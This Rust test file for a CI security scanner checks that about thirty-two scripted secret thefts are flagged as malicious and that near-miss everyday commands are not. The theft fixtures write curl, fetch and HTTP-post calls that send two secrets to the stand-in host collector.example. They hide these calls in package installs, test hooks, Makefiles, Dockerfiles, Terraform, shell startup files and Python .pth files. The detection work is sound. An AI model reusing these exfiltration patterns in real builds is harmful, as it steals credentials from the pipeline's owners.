//! Files that a step writes for a tool which runs what stands in them, and the everyday use of the same tools.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, Whole, at_most_exposed, found, found_in, workflow_at_most_exposed};

const fn theft(name: &'static str, script: &'static str) -> Way {
    Way {
        name,
        shell: "bash",
        script,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    }
}

/// Each sends both secrets to the place.
const THEFTS: &[Way] = &[
    theft(
        "a package built from a folder",
        r##"mkdir -p /tmp/p
cat > /tmp/p/setup.py <<'E'
import os, urllib.request
urllib.request.urlopen("https://collector.example/in", data=(os.environ["A"] + os.environ["B"]).encode())
E
pip install --no-deps /tmp/p"##,
    ),
    theft(
        "a plugin of a test runner in a folder",
        r##"cat >> tests/unit/conftest.py <<'E'
def pytest_configure(config):
    import os, requests
    requests.post("https://collector.example/in", json={k: os.getenv(k) for k in ("A", "B")})
E
pytest -q"##,
    ),
    theft(
        "a script set by name",
        r##"npm pkg set scripts.posttest='curl -d "$A$B" https://collector.example/in'
npm test"##,
    ),
    theft(
        "a script set with jq",
        r##"jq '.scripts.build = "curl -d \"$A$B\" https://collector.example/in"' package.json > p.json
mv p.json package.json
npm run build"##,
    ),
    theft(
        "a task of rake's",
        r##"cat >> Rakefile <<'E'
task(:build) do
  require "net/http"
  Net::HTTP.post(URI("https://collector.example/in"), ENV["A"] + ENV["B"])
end
E
bundle exec rake build"##,
    ),
    theft(
        "a recipe put behind its target",
        r##"sed -i '/^test:/a\	@curl -d "$$A$$B" https://collector.example/in' Makefile
make test"##,
    ),
    theft(
        "a line put into a script",
        r##"sed -i '1a curl -d "$A$B" https://collector.example/in' scripts/build.sh
./scripts/build.sh"##,
    ),
    theft(
        "a line by substitution",
        r##"sed -i 's#^set -e$#set -e\ncurl -d "$A$B" https://collector.example/in#' build.sh
bash build.sh"##,
    ),
    theft(
        "a patch",
        r##"patch -p1 <<'E'
--- a/build.sh
+++ b/build.sh
@@ -1 +1,2 @@
 #!/bin/sh
+curl -d "$A$B" https://collector.example/in
E
sh build.sh"##,
    ),
    theft(
        "a patch of git's",
        r##"git apply - <<'E'
--- a/Makefile
+++ b/Makefile
@@ -1 +1,2 @@
 all:
+	curl -d "$$A$$B" https://collector.example/in
E
make"##,
    ),
    theft(
        "settings of a bundler",
        r##"cat > vite.config.js <<'E'
fetch("https://collector.example/in", {method: "POST", body: process.env.A + process.env.B});
export default {};
E
npx vite build"##,
    ),
    theft(
        "a justfile",
        r##"printf 'build:\n    curl -d "$A$B" https://collector.example/in\n' > justfile
just build"##,
    ),
    theft(
        "a makefile of another name",
        r##"printf 'all:\n\tcurl -d "$$A$$B" https://collector.example/in\n' > /tmp/x.mk
make -f /tmp/x.mk"##,
    ),
    theft(
        "scripts of composer's",
        r##"echo '{"scripts": {"post-install-cmd": ["curl -d \"$A$B\" https://collector.example/in"]}}' > composer.json
composer install"##,
    ),
    theft(
        "a Dockerfile with arguments",
        r##"cat > Dockerfile.ci <<'E'
FROM alpine
ARG A
ARG B
RUN apk add curl && \
    curl -d "$A $B" https://collector.example/in
E
docker build --build-arg A --build-arg B -f Dockerfile.ci ."##,
    ),
    theft(
        "a Dockerfile with secrets on the input",
        r##"docker buildx build --secret id=a,env=A --secret id=b,env=B - <<'E'
FROM curlimages/curl
RUN --mount=type=secret,id=a --mount=type=secret,id=b curl -d "$(cat /run/secrets/a /run/secrets/b)" https://collector.example/in
E"##,
    ),
    theft(
        "a container that is kept",
        r##"docker run --name x -e A -e B busybox true
docker commit x collector.example/x
docker push collector.example/x"##,
    ),
    theft(
        "a service of compose",
        r##"cat > compose.yaml <<'E'
services:
  x:
    image: curlimages/curl
    environment: [A, B]
    command: ["sh", "-c", "curl -d \"$$A $$B\" https://collector.example/in"]
E
docker compose run --rm x"##,
    ),
    theft(
        "compose on the input",
        r##"docker compose -f - up <<E
services:
  x:
    image: curlimages/curl
    command: -d "$A $B" https://collector.example/in
E"##,
    ),
    theft(
        "a task",
        r##"cat > Taskfile.yml <<'E'
version: '3'
tasks:
  lint:
    cmds:
      - curl -d "$A $B" https://collector.example/in
E
task lint"##,
    ),
    theft(
        "a hook of pre-commit",
        r##"cat > .pre-commit-config.yaml <<'E'
repos:
  - repo: local
    hooks:
      - {id: x, name: x, language: system, entry: bash -c 'curl -d "$A $B" https://collector.example/in'}
E
pre-commit run --all-files"##,
    ),
    theft(
        "an environment of tox",
        r##"printf '[testenv]\ncommands =\n    curl -d "{env:A} {env:B}" https://collector.example/in\n' > tox.ini
tox"##,
    ),
    theft(
        "a provisioner",
        r##"cat > main.tf <<'E'
resource "null_resource" "x" {
  provisioner "local-exec" {
    command = "curl -d \"$A $B\" https://collector.example/in"
  }
}
E
terraform apply -auto-approve"##,
    ),
    theft(
        "a playbook",
        r##"cat > p.yml <<'E'
- hosts: localhost
  tasks:
    - shell: curl -d "$A $B" https://collector.example/in
E
ansible-playbook p.yml"##,
    ),
    theft(
        "a generator of go",
        r##"cat > gen.go <<'E'
package main
//go:generate sh -c "curl -d \"$A $B\" https://collector.example/in"
E
go generate ./..."##,
    ),
    theft(
        "a test of go",
        r##"cat > x_test.go <<'E'
package main
import ("net/http";"os";"strings";"testing")
func TestX(t *testing.T) { http.Post("https://collector.example/in", "text/plain", strings.NewReader(os.Getenv("A")+os.Getenv("B"))) }
E
go test ./..."##,
    ),
    theft(
        "a script of gradle",
        r##"cat > ~/.gradle/init.gradle <<'E'
new URL("https://collector.example/in?a=" + System.getenv("A") + System.getenv("B")).text
E
./gradlew build"##,
    ),
    theft(
        "a file that a shell reads first",
        r##"echo 'curl -d "$A $B" https://collector.example/in' >> ~/.bashrc
bash -i -c true"##,
    ),
    theft(
        "a file that a child reads first",
        r##"echo 'curl -d "$A $B" https://collector.example/in' > /tmp/e
BASH_ENV=/tmp/e bash -c true"##,
    ),
    theft(
        "a file that Python reads first",
        r##"echo 'import os,urllib.request; urllib.request.urlopen("https://collector.example/in", (os.environ["A"]+os.environ["B"]).encode())' > "$(python -c 'import site; print(site.getsitepackages()[0])')/x.pth"
python -V"##,
    ),
    theft(
        "what make computes first",
        r##"cat > x.mk <<'E'
X := $(shell curl -d "$$A $$B" https://collector.example/in)
all: ; @true
E
make -f x.mk"##,
    ),
    theft("a command of an editor", r##"vim -es -c '!curl -d "$A $B" https://collector.example/in' -c q"##),
];

/// What people write for the same tools.
const NEAR_MISSES: &[(&str, &str, &str)] = &[
    ("version", "bash", r##"npm pkg set version="1.2.3" scripts.prepare=husky && npm ci && npm publish"##),
    ("sed settings", "bash", r##"sed -i "/^\[api\]/a token = $A" settings.ini && make deploy"##),
    ("sed makefile", "bash", r##"sed -i 's/^VERSION=.*/VERSION=2/' Makefile && make release TOKEN="$B""##),
    (
        "conftest",
        "bash",
        r##"printf 'collect_ignore = ["slow"]\n' > conftest.py
API_TOKEN=$B pytest"##,
    ),
    (
        "patch",
        "bash",
        r##"patch -p1 < fixes/build.patch
NPM_TOKEN=$B make publish"##,
    ),
    (
        "own image",
        "bash",
        r##"printf 'FROM node:22\nARG T\nRUN npm config set //registry.npmjs.org/:_authToken=$T && npm ci\n' > Dockerfile
docker build --build-arg T="$B" -t app ."##,
    ),
    (
        "own services",
        "bash",
        r##"printf 'services:\n  db:\n    image: postgres:16\n    environment: {POSTGRES_PASSWORD: $A}\n' > compose.yaml
docker compose up -d && make test"##,
    ),
    (
        "tasks",
        "bash",
        r##"printf 'version: "3"\ntasks:\n  lint:\n    cmds: [golangci-lint run]\n' > Taskfile.yml
task lint"##,
    ),
    ("profile", "bash", r##"echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc; bash -lc 'make deploy'"##),
];

/// An action of the repository's own that an earlier step wrote.
#[test]
fn an_action_written_at_run_time() {
    let composite = "- shell: bash\n              env:\n                K: ${{ '$' }}{{ inputs.key }}\n              run: curl -d \"$K\" https://collector.example/in";
    let workflow = |step: &str| {
        format!(
            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: |\n          mkdir -p .github/actions/x\n          cat > .github/actions/x/action.yml <<'E'\n          name: x\n          inputs: {{key: {{required: true}}}}\n          runs:\n            using: composite\n            steps:\n            {step}\n          E\n      - uses: ./.github/actions/x\n        with: {{key: '${{{{ secrets.NPM_TOKEN }}}}'}}\n"
        )
    };
    found_in(&Whole {
        name: "composite",
        workflow: Box::leak(workflow(composite).into_boxed_str()),
        secrets: &["NPM_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    });
    workflow_at_most_exposed("composite", &workflow("- {shell: bash, run: make}"));
}

#[test]
fn thefts_are_found() {
    for way in THEFTS {
        found(way);
    }
}

#[test]
fn ordinary_work_is_not_accused() {
    for (name, shell, script) in NEAR_MISSES {
        at_most_exposed(name, shell, script);
    }
}
